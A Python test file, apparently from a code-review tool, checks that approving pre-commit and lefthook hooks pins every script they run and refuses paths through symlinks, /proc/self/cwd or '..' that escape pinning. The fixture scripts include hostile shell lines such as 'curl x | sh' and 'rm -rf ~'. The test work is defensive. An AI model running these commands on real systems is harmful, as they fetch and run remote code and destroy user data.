"""What an approval of a repository's project hooks pins (review.project_hooks.pin), read from a
real commit's tree: the configuration, every file a local hook executes and the root's
configuration files, one digest that any change to them changes; nothing for a tree that
declares no hooks."""

from __future__ import annotations

import os

import pytest

from landwatch.review.change import open_repository, resolve
from landwatch.review.project_hooks.config import ManagerConfig
from landwatch.review.project_hooks.pin import HooksPinned, pin_hooks
from support.repos import Repo

CONFIG = """repos:
  - repo: local
    hooks:
      - id: shell-check
        name: shell check
        entry: scripts/check.sh
        language: script
"""


def pinned(repo: Repo) -> HooksPinned | None:
    git = open_repository(repo.git_dir)
    return pin_hooks(git, resolve(git, "HEAD").tree)


def only_manager(repo: Repo) -> ManagerConfig:
    """What HEAD's one hook manager declares, as pinned."""
    found = pinned(repo)
    assert found is not None
    [manager] = found.declared
    return manager


def test_the_configuration_and_what_a_local_hook_executes_are_pinned(repo: Repo) -> None:
    repo.land(
        "hooks",
        {
            ".pre-commit-config.yaml": CONFIG,
            "scripts/check.sh": "#!/bin/sh\nexit 0\n",
            "pyproject.toml": "[tool.ruff]\nline-length = 100\n",
            "app.py": "x = 1\n",
        },
        hooks=False,
    )
    first = pinned(repo)
    assert first is not None
    by_path = {file.path: file for file in first.files}
    assert {".pre-commit-config.yaml", "scripts/check.sh", "pyproject.toml"} <= set(by_path)
    assert "app.py" not in by_path
    assert by_path["scripts/check.sh"].why == "executed by a hook"
    assert first.given()["scripts/check.sh"] == b"#!/bin/sh\nexit 0\n"
    assert any("scripts/check.sh" in line for line in first.commands())
    repo.land("unrelated", {"app.py": "x = 2\n"}, hooks=False)
    unchanged = pinned(repo)
    assert unchanged is not None and unchanged.digest == first.digest
    repo.land("the script changes", {"scripts/check.sh": "#!/bin/sh\ncurl x | sh\n"}, hooks=False)
    changed = pinned(repo)
    assert changed is not None and changed.digest != first.digest


REMOTE_RUNS_A_SCRIPT = """repos:
  - repo: https://github.com/example/hooks
    rev: 0123456789abcdef0123456789abcdef01234567
    hooks:
      - id: fine
        entry: sh tools/entry.sh
      - id: shell
        args: [tools/args.sh]
      - id: flake8
        args: [--exclude, "/*/migrations/*", --config, setup.cfg]
"""


def test_what_the_project_spells_for_a_remote_hook_is_pinned(repo: Repo) -> None:
    """An audit (attack 112): the project's configuration may give a remote repository's hook
    its own `entry:` and `args:`, run in the project's checkout; trust read the words of a
    local hook's alone, so `entry: sh tools/entry.sh` (or `args: [tools/args.sh]` after the
    remote's `sh`) was pinned by nothing, and once changed ran under the old approval. The
    entry is read as a command; the args for what of the tree they name and ways back into
    the checkout (attack 51's), a pattern aside."""
    scripts = {"tools/entry.sh": "#!/bin/sh\nexit 0\n", "tools/args.sh": "#!/bin/sh\nexit 0\n"}
    repo.land("hooks", {".pre-commit-config.yaml": REMOTE_RUNS_A_SCRIPT, **scripts}, hooks=False)
    first = pinned(repo)
    assert first is not None
    by_path = {file.path: file for file in first.files}
    assert {"tools/entry.sh", "tools/args.sh"} <= set(by_path)
    assert by_path["tools/entry.sh"].why == "executed by a hook"
    # A pattern handed to the remote's program is no command of this configuration: nothing of
    # it is refused for one (the audit of the first fix); a way back into the checkout is.
    assert only_manager(repo).problem is None
    for script in scripts:
        repo.land("the script changes", {script: "#!/bin/sh\ncurl x | sh\n"}, hooks=False)
        changed = pinned(repo)
        assert changed is not None and changed.digest != first.digest
        first = changed
    # `/proc/self/cwd/tools/entr[y].sh`: no shell expands it, the file of that name runs (an
    # audit: a wildcard took it for a pattern, unrefused).
    for back in ("../work/tools/entry.sh", "/proc/self/cwd/tools/entr[y].sh", "/proc/*/cwd/x"):
        spelt = REMOTE_RUNS_A_SCRIPT.replace("[tools/args.sh]", f"['{back}']")
        repo.land("back in", {".pre-commit-config.yaml": spelt}, hooks=False)
        problem = only_manager(repo).problem
        assert problem is not None and back in problem


@pytest.mark.parametrize("repository", ["local", "https://github.com/example/hooks"])
def test_an_argument_is_read_as_the_one_word_pre_commit_hands_over(
    repo: Repo, repository: str
) -> None:
    """An audit: args were joined to the entry with spaces and split again, so `tools/my
    script.sh` (and a file named `'`) was read as other words, pinned by nothing, though
    pre-commit hands it over whole to the program that runs it."""
    config = f"""repos:
  - repo: {repository}
    rev: 0123456789abcdef0123456789abcdef01234567
    hooks:
      - id: shell
        name: shell
        entry: sh
        language: system
        args: ["tools/my script.sh", "'"]
"""
    files = {"tools/my script.sh": "#!/bin/sh\nexit 0\n", "'": "exit 0\n"}
    repo.land("hooks", {".pre-commit-config.yaml": config, **files}, hooks=False)
    found = pinned(repo)
    assert found is not None
    assert set(files) <= {file.path for file in found.files}


def test_a_tree_that_declares_no_hooks_pins_nothing(repo: Repo) -> None:
    repo.land("plain", {"app.py": "x = 1\n", "pyproject.toml": "[tool.ruff]\n"}, hooks=False)
    assert pinned(repo) is None


def test_an_executed_link_is_pinned_by_its_target_and_the_target_s_content(repo: Repo) -> None:
    # Issue 37, attack 4: a link a hook executes was pinned by nothing but its name.
    files = {
        ".pre-commit-config.yaml": CONFIG,
        "tools/good.sh": "#!/bin/sh\nexit 0\n",
        "tools/other.sh": "#!/bin/sh\ncurl x | sh\n",
    }
    repo.stage(files)
    (repo.path / "scripts").mkdir()
    os.symlink("../tools/good.sh", repo.path / "scripts" / "check.sh")
    repo.git("add", "scripts/check.sh")
    repo.land("hooks", {}, hooks=False)
    first = pinned(repo)
    assert first is not None
    by_path = {file.path: file for file in first.files}
    assert by_path["scripts/check.sh"].why == "a link to tools/good.sh: not given"
    (repo.path / "scripts" / "check.sh").unlink()
    os.symlink("../tools/other.sh", repo.path / "scripts" / "check.sh")
    repo.git("add", "scripts/check.sh")
    repo.land("re-pointed", {}, hooks=False)
    repointed = pinned(repo)
    assert repointed is not None and repointed.digest != first.digest
    repo.land("the target changes", {"tools/other.sh": "#!/bin/sh\nrm -rf ~\n"}, hooks=False)
    retargeted = pinned(repo)
    assert retargeted is not None and retargeted.digest != repointed.digest


def test_an_executed_file_over_a_mebibyte_is_pinned_by_its_content(repo: Repo) -> None:
    # Attack 4 again: past 1 MiB a file was pinned by its size; the same size, other bytes, ran.
    large = "#!/bin/sh\n" + "#" * (1 << 20) + "\nexit 0\n"
    repo.land("hooks", {".pre-commit-config.yaml": CONFIG, "scripts/check.sh": large}, hooks=False)
    first = pinned(repo)
    assert first is not None
    same_size = large.replace("exit 0", "exit 1")
    repo.land("the same size", {"scripts/check.sh": same_size}, hooks=False)
    second = pinned(repo)
    assert second is not None and second.digest != first.digest
    assert {file.path: file.why for file in second.files}["scripts/check.sh"] == (
        f"{len(same_size):,} bytes, too large to give: pinned by its blob"
    )


LEFTHOOK_SCRIPT = 'pre-commit:\n  scripts:\n    "check.sh":\n      runner: sh\n'


def test_a_lefthook_script_that_is_a_link_is_pinned_with_the_file_it_leads_to(repo: Repo) -> None:
    # The audit's: `.lefthook/pre-commit/check.sh`, a link into tools/, was left out (only the
    # regular files of the scripts' directory were pinned): re-pointed at new code, or its
    # target changed, it ran under the old approval.
    files = {"lefthook.yml": LEFTHOOK_SCRIPT, "tools/check.sh": "echo fine\n"}
    repo.stage({**files, "tools/other.sh": "echo new\n"})
    repo.link({".lefthook/pre-commit/check.sh": "../../tools/check.sh"})
    repo.land("hooks", {}, hooks=False)
    first = pinned(repo)
    assert first is not None
    by_path = {file.path: file for file in first.files}
    assert by_path[".lefthook/pre-commit/check.sh"].why == "a link to tools/check.sh: not given"
    assert by_path["tools/check.sh"].why == "executed by a hook"
    assert first.given()["tools/check.sh"] == b"echo fine\n"  # shown, and diffed, as it is
    repo.link({".lefthook/pre-commit/check.sh": "../../tools/other.sh"})
    repo.land("re-pointed", {}, hooks=False)
    repointed = pinned(repo)
    assert repointed is not None and repointed.digest != first.digest
    repo.land("the target changes", {"tools/other.sh": "echo newer\n"}, hooks=False)
    retargeted = pinned(repo)
    assert retargeted is not None and retargeted.digest != repointed.digest


# Where lefthook 2.2 finds a script (each source directory's `pre-commit/`, then the name, which
# may hold `/` and `..`), whatever links lead there: (configuration, files, links, the file run).
SCRIPTS = {
    "in .config/lefthook": (
        LEFTHOOK_SCRIPT,
        {".config/lefthook/pre-commit/check.sh": "echo fine\n"},
        {},
        ".config/lefthook/pre-commit/check.sh",
    ),
    "in .config/lefthook-local": (
        LEFTHOOK_SCRIPT,
        {".config/lefthook-local/pre-commit/check.sh": "echo fine\n"},
        {},
        ".config/lefthook-local/pre-commit/check.sh",
    ),
    "named with a directory": (
        'pre-commit:\n  scripts:\n    "lint/check.sh":\n      runner: sh\n',
        {".lefthook/pre-commit/lint/check.sh": "echo fine\n"},
        {},
        ".lefthook/pre-commit/lint/check.sh",
    ),
    "a job's script named up and out of its directory": (
        "pre-commit:\n  jobs:\n    - script: ../../tools/check.sh\n      runner: sh\n",
        {"tools/check.sh": "echo fine\n"},
        {},
        "tools/check.sh",
    ),
    "the source directory a link": (
        LEFTHOOK_SCRIPT,
        {"hooks/pre-commit/check.sh": "echo fine\n"},
        {".lefthook": "hooks"},
        "hooks/pre-commit/check.sh",
    ),
    "the local source directory a link in a group": (
        "pre-commit:\n  jobs:\n    - group:\n        jobs:\n          - script: check.sh\n",
        {"shared/pre-commit/check.sh": "#!/bin/sh\necho fine\n"},
        {".lefthook-local": "shared"},
        "shared/pre-commit/check.sh",
    ),
}


@pytest.mark.parametrize(("config", "files", "links", "run"), SCRIPTS.values(), ids=list(SCRIPTS))
def test_every_file_lefthook_would_run_as_a_script_is_pinned(
    repo: Repo, config: str, files: dict[str, str], links: dict[str, str], run: str
) -> None:
    # Before, only the regular files directly in `.lefthook/pre-commit/` (or the directory
    # `source_dir` names) were pinned, and a path through a link was no file of the tree.
    repo.stage({"lefthook.yml": config, **files})
    repo.link(links)
    repo.land("hooks", {}, hooks=False)
    first = pinned(repo)
    assert first is not None
    assert {file.path: file.why for file in first.files}.get(run) == "executed by a hook"
    assert {*links} <= {file.path for file in first.files}
    repo.land("the script changes", {run: "echo new code\n"}, hooks=False)
    changed = pinned(repo)
    assert changed is not None and changed.digest != first.digest


def test_an_entry_reached_through_a_linked_directory_is_pinned(repo: Repo) -> None:
    # `entry: bin/check.sh` with `bin` a link to tools/: the path was no file of the tree, so
    # nothing of it was pinned, and tools/check.sh changed under the old approval.
    config = CONFIG.replace("scripts/check.sh", "bin/check.sh")
    repo.stage({".pre-commit-config.yaml": config, "tools/check.sh": "#!/bin/sh\nexit 0\n"})
    repo.link({"bin": "tools"})
    repo.land("hooks", {}, hooks=False)
    first = pinned(repo)
    assert first is not None
    by_path = {file.path: file.why for file in first.files}
    assert by_path["bin"] == "a link to the directory tools"
    assert by_path["tools/check.sh"] == "executed by a hook"
    repo.land("the script changes", {"tools/check.sh": "#!/bin/sh\ncurl x | sh\n"}, hooks=False)
    changed = pinned(repo)
    assert changed is not None and changed.digest != first.digest


@pytest.mark.parametrize(
    ("config", "link"),
    [
        (LEFTHOOK_SCRIPT, ".lefthook/pre-commit/check.sh"),
        (CONFIG, "scripts/check.sh"),
    ],
    ids=["lefthook", "pre-commit"],
)
def test_an_executed_link_out_of_the_tree_is_pinned_by_its_text_and_runs_nothing(
    repo: Repo, config: str, link: str
) -> None:
    # What is there is not the landed tree's: its content is pinned by nothing.
    name = "lefthook.yml" if config is LEFTHOOK_SCRIPT else ".pre-commit-config.yaml"
    repo.stage({name: config})
    repo.link({link: "/usr/bin/id"})
    repo.land("hooks", {}, hooks=False)
    first = pinned(repo)
    assert first is not None
    assert {file.path: file.why for file in first.files}[link] == (
        "a link to /usr/bin/id, outside the tree"
    )
    [manager] = first.declared
    assert (
        manager.problem
        == f"{link} is a link to /usr/bin/id, outside the tree, where nothing is pinned"
    )


@pytest.mark.parametrize(
    ("files", "links"),
    [
        (
            {"conf/lefthook-local.yml": "pre-commit:\n  commands:\n    b:\n      run: x\n"},
            {".config": "conf"},
        ),
        (
            {
                "lefthook.yml": LEFTHOOK_SCRIPT + "extends: [shared/more.yml]\n",
                "conf/more.yml": "pre-commit:\n  commands:\n    b:\n      run: x\n",
            },
            {"shared": "conf"},
        ),
        (
            {
                "lefthook.yml": LEFTHOOK_SCRIPT + "extends: ['*/more.yml']\n",
                "conf/x/more.yml": "pre-commit:\n  commands:\n    b:\n      run: x\n",
            },
            {"shared": "conf/x"},
        ),
    ],
    ids=["a local file", "what extends names", "what an extends glob matches"],
)
def test_a_configuration_lefthook_reads_through_a_linked_directory_runs_nothing(
    repo: Repo, files: dict[str, str], links: dict[str, str]
) -> None:
    # lefthook reads `.config/lefthook-local.yml`, and what `extends:` names, through a link to a
    # directory; before, such a file was not in the tree, and its commands ran unpinned.
    repo.stage({"lefthook.yml": LEFTHOOK_SCRIPT, **files})
    repo.link(links)
    repo.land("hooks", {}, hooks=False)
    manager = only_manager(repo)
    assert manager.problem is not None and "through the link" in manager.problem, manager


# What lefthook 2.2 makes of a command line's templates before `sh -c` runs it (seen in its
# replacer, and with 2.2.2): (the files, the file it runs).
TEMPLATED = {
    "the configuration's own template": (
        {
            "lefthook.yml": "templates:\n  checker: tools/check.sh\n"
            "pre-commit:\n  commands:\n    check:\n      run: sh {checker}\n",
        },
        "tools/check.sh",
    ),
    "a template a local file gives": (
        {
            "lefthook.yml": "templates:\n  checker: ''\n"
            "pre-commit:\n  jobs:\n    - run: sh {checker}\n",
            "lefthook-local.yml": "templates:\n  checker: tools/check.sh\n",
        },
        "tools/check.sh",
    ),
    "a template's value naming another": (
        {
            "lefthook.yml": "templates:\n  inner: 'tools/{dir}.sh'\n  dir: check\n"
            "pre-commit:\n  commands:\n    check:\n      run: sh {inner} {dir}\n",
        },
        "tools/check.sh",
    ),
    "a template lefthook does not know, run as written": (
        {"lefthook.yml": "pre-commit:\n  commands:\n    check:\n      run: sh tools/{x}.sh\n"},
        "tools/{x}.sh",
    ),
    "the job's name": (
        {
            "lefthook.yml": "pre-commit:\n  commands:\n    check.sh:\n"
            "      run: sh tools/{lefthook_job_name}\n"
        },
        "tools/check.sh",
    ),
    "git's arguments, none at pre-commit": (
        {"lefthook.yml": "pre-commit:\n  commands:\n    check:\n      run: sh tools/{0}check.sh\n"},
        "tools/check.sh",
    ),
    "the command a local file wraps": (
        {
            "lefthook.yml": "pre-commit:\n  commands:\n    check:\n      run: check.sh\n",
            "lefthook-local.yml": "pre-commit:\n  commands:\n    check:\n"
            "      run: sh tools/{cmd}\n",
        },
        "tools/check.sh",
    ),
}


@pytest.mark.parametrize(("files", "run"), TEMPLATED.values(), ids=list(TEMPLATED))
def test_what_lefthook_makes_of_its_templates_is_pinned(
    repo: Repo, files: dict[str, str], run: str
) -> None:
    # The audit's: `run: sh {checker}` ran tools/check.sh, and every word holding a brace was
    # left out, so the script changed under the old approval (NEW CODE, NEVER TRUSTED).
    repo.land("hooks", {**files, run: "echo fine\n"}, hooks=False)
    first = pinned(repo)
    assert first is not None
    [manager] = first.declared
    assert manager.problem is None and run in manager.executed
    assert {file.path: file.why for file in first.files}[run] == "executed by a hook"
    repo.land("the script changes", {run: "echo new code\n"}, hooks=False)
    changed = pinned(repo)
    assert changed is not None and changed.digest != first.digest


def test_a_template_that_grows_without_end_is_read_boundedly_and_runs_nothing(repo: Repo) -> None:
    # (Many commands that are one alias say so once.)
    config = "templates:\n  a: '{a}{a}'\npre-commit:\n  commands:\n    x:\n      run: &x sh {a}\n"
    config += "".join(f"    x{n}:\n      run: *x\n" for n in range(400))
    repo.land("hooks", {"lefthook.yml": config}, hooks=False)
    manager = only_manager(repo)
    assert manager.problem == (
        "the templates of lefthook's command `sh {a}` make more than 64 commands of it, or one "
        "too long: too many to pin what they run"
    )


COMMAND = "pre-commit:\n  commands:\n    check:\n      run: 'true'\n"
# Every line lefthook 2.2 runs with `sh -c` besides a command's `run` (seen in its source and
# with 2.2.2): (the configuration, the file it runs).
BESIDE_RUN = {
    "a command's skip: condition": (
        COMMAND + "      skip:\n        - merge\n        - run: sh tools/check.sh\n",
        "tools/check.sh",
    ),
    "a job's only: condition": (
        "pre-commit:\n  jobs:\n    - run: 'true'\n      only:\n        - run: sh tools/check.sh\n",
        "tools/check.sh",
    ),
    "a script's skip: condition": (
        LEFTHOOK_SCRIPT + "      skip:\n        - run: sh tools/check.sh\n",
        "tools/check.sh",
    ),
    "a group's skip: condition": (
        "pre-commit:\n  jobs:\n    - skip:\n        - run: sh tools/check.sh\n"
        "      group:\n        jobs:\n          - run: 'true'\n",
        "tools/check.sh",
    ),
    "the hook's own only: condition": (
        COMMAND.replace("  commands:", "  only:\n    - run: sh tools/check.sh\n  commands:"),
        "tools/check.sh",
    ),
    "the hook's setup:": (
        COMMAND.replace("  commands:", "  setup:\n    - run: sh tools/check.sh\n  commands:"),
        "tools/check.sh",
    ),
    "a script's runner": (
        'pre-commit:\n  scripts:\n    "guard.sh":\n      runner: sh tools/check.sh\n',
        "tools/check.sh",
    ),
    "a job's args": (
        "pre-commit:\n  jobs:\n    - run: sh\n      args: tools/check.sh\n",
        "tools/check.sh",
    ),
    "a job run where its group's root: says": (
        "pre-commit:\n  jobs:\n    - root: tools/\n      group:\n        jobs:\n"
        "          - run: sh check.sh\n",
        "tools/check.sh",
    ),
}


@pytest.mark.parametrize(("config", "run"), BESIDE_RUN.values(), ids=list(BESIDE_RUN))
def test_every_line_lefthook_runs_is_pinned(repo: Repo, config: str, run: str) -> None:
    # The audit's: `skip: [{run: sh tools/skip.sh}]` ran tools/skip.sh, which trust never read
    # (only a command's `run`, a job's `run` and `script` were): changed after trust, it ran
    # under the old approval. lefthook runs these too.
    repo.land("hooks", {"lefthook.yml": config, run: "exit 0\n"}, hooks=False)
    first = pinned(repo)
    assert first is not None
    [manager] = first.declared
    assert manager.problem is None and run in manager.executed
    repo.land("the script changes", {run: "echo new code\n"}, hooks=False)
    changed = pinned(repo)
    assert changed is not None and changed.digest != first.digest


def lefthook_run(run: str) -> str:
    return f"pre-commit:\n  commands:\n    check:\n      run: {run}\n"


def pre_commit_entry(entry: str) -> str:
    return CONFIG.replace("scripts/check.sh", entry).replace("language: script", "language: system")


CHECKOUT = "where nothing is pinned"
# Paths that lead back into the checkout the hooks run in, named where no approval pins what is
# there: (the configuration's file, its text, the one line said).
LEADING_BACK = {
    "a pre-commit entry through /proc/self/cwd": (
        ".pre-commit-config.yaml",
        pre_commit_entry("/proc/self/cwd/tools/check.sh"),
        "/proc/self/cwd/tools/check.sh leads through /proc back into the checkout the hooks run "
        f"in, {CHECKOUT}",
    ),
    "a lefthook command through another process's cwd": (
        "lefthook.yml",
        lefthook_run("sh /proc/1/cwd/tools/check.sh"),
        "/proc/1/cwd/tools/check.sh leads through /proc back into the checkout the hooks run "
        f"in, {CHECKOUT}",
    ),
    "a lefthook command through /dev/fd": (
        "lefthook.yml",
        lefthook_run("sh /dev/fd/3 3< tools/check.sh"),
        f"/dev/fd/3 leads through /proc back into the checkout the hooks run in, {CHECKOUT}",
    ),
    "lefthook's extends: through /proc/self/cwd": (
        "lefthook.yml",
        "extends:\n  - /proc/self/cwd/shared/hooks.yml\n" + lefthook_run("'true'"),
        "/proc/self/cwd/shared/hooks.yml leads through /proc back into the checkout the hooks "
        f"run in, {CHECKOUT}",
    ),
    "a lefthook command out of the tree into the checkout's own directory": (
        "lefthook.yml",
        lefthook_run("sh ../work/tools/check.sh"),
        f"../work/tools/check.sh leads out of the tree, {CHECKOUT} and the checkout the hooks "
        "run in is reached again",
    ),
    "a job out of its root and the tree": (
        "lefthook.yml",
        "pre-commit:\n  jobs:\n    - root: tools\n      run: sh ../../work/tools/check.sh\n",
        f"tools/../../work/tools/check.sh leads out of the tree, {CHECKOUT} and the checkout the "
        "hooks run in is reached again",
    ),
    "lefthook's extends: out of the tree": (
        "lefthook.yml",
        "extends: [../work/shared/hooks.yml]\n" + lefthook_run("'true'"),
        f"../work/shared/hooks.yml leads out of the tree, {CHECKOUT} and the checkout the hooks "
        "run in is reached again",
    ),
    "a lefthook script named out of the tree": (
        "lefthook.yml",
        'pre-commit:\n  scripts:\n    "../../../work/tools/check.sh": {}\n',
        f"../work/tools/check.sh leads out of the tree, {CHECKOUT} and the checkout the hooks "
        "run in is reached again",
    ),
    "a pre-commit entry out of the home": (
        ".pre-commit-config.yaml",
        pre_commit_entry("~/../work/tools/check.sh"),
        "~/../work/tools/check.sh leads out of the home, which behind the wall is beside the "
        f"checkout the hooks run in, {CHECKOUT}",
    ),
    "a wildcard for the checkout's random place": (
        "lefthook.yml",
        lefthook_run("sh /*/.local/state/landwatch/run/hooks/hooks-*/work/tools/check.sh"),
        "/*/.local/state/landwatch/run/hooks/hooks-*/work/tools/check.sh has a wildcard among "
        "its directories, which may match the checkout the hooks run in (its place has a random "
        f"name), {CHECKOUT}",
    ),
}


@pytest.mark.parametrize(("name", "config", "said"), LEADING_BACK.values(), ids=list(LEADING_BACK))
def test_a_path_leading_back_into_the_checkout_runs_nothing_and_says_why(
    repo: Repo, name: str, config: str, said: str
) -> None:
    # The audit's: behind the wall /proc/self/cwd is the checkout, so an entry or an extends
    # path through it named tools/check.sh (or shared/hooks.yml) unpinned, and a change to it
    # ran under the old approval; so does `..` out of the tree into the checkout's directory.
    repo.land("hooks", {name: config, "tools/check.sh": "#!/bin/sh\nexit 0\n"}, hooks=False)
    manager = only_manager(repo)
    assert manager.problem == said


def test_what_names_nothing_of_the_checkout_is_no_problem(repo: Repo) -> None:
    # A directory above (from the root, or from a job's), the home's own, what is written to (a
    # hook of test_run.py writes straight to its manager's output), a program of the system.
    run = (
        "'cd .. && echo x > /dev/stderr 2>/dev/null; /usr/bin/env true ~/bin/x ~/.. ..; "
        "exec yes >> /proc/$PPID/fd/1'"
    )
    job = "pre-commit:\n  jobs:\n    - root: web\n      run: cd ../.. && pwd\n"
    files = {"lefthook.yml": lefthook_run(run), "lefthook-local.yml": job, "web/app.js": "1\n"}
    repo.land("hooks", files, hooks=False)
    found = pinned(repo)
    assert found is not None and found.declared[0].problem is None


WORDS = " ".join(f"a{n}" for n in range(70))


@pytest.mark.parametrize(
    ("name", "config"),
    [
        ("lefthook.yml", lefthook_run(f"|\n        echo {WORDS}\n        sh tools/check.sh")),
        (".pre-commit-config.yaml", pre_commit_entry(f"tools/each.sh {WORDS} tools/check.sh")),
    ],
    ids=["a lefthook script of many words", "a pre-commit entry of many words"],
)
def test_every_word_of_a_long_command_is_read(repo: Repo, name: str, config: str) -> None:
    # Only a command's first 64 words were read: a `run: |` of a few lines ran a script named
    # after them unpinned.
    repo.land("hooks", {name: config, "tools/check.sh": "#!/bin/sh\nexit 0\n"}, hooks=False)
    manager = only_manager(repo)
    assert manager.problem is None and "tools/check.sh" in manager.executed


def test_commands_past_what_is_read_run_nothing(repo: Repo) -> None:
    # Each file is read up to 1 MB; what all of them run is split into words up to 1 MiB (a
    # word the shell's way, in Python, is slow), and past it nothing runs.
    run = "|\n" + "".join(f"        sh tools/check{n}.sh\n" for n in range(30_000))
    local = run.replace("check", "other")
    files = {"lefthook.yml": lefthook_run(run), "lefthook-local.yml": lefthook_run(local)}
    repo.land("hooks", files, hooks=False)
    manager = only_manager(repo)
    assert manager.problem == (
        "the commands of lefthook.yml and the files it reads hold more than 1,048,576 "
        "characters: too many to pin what they run"
    )
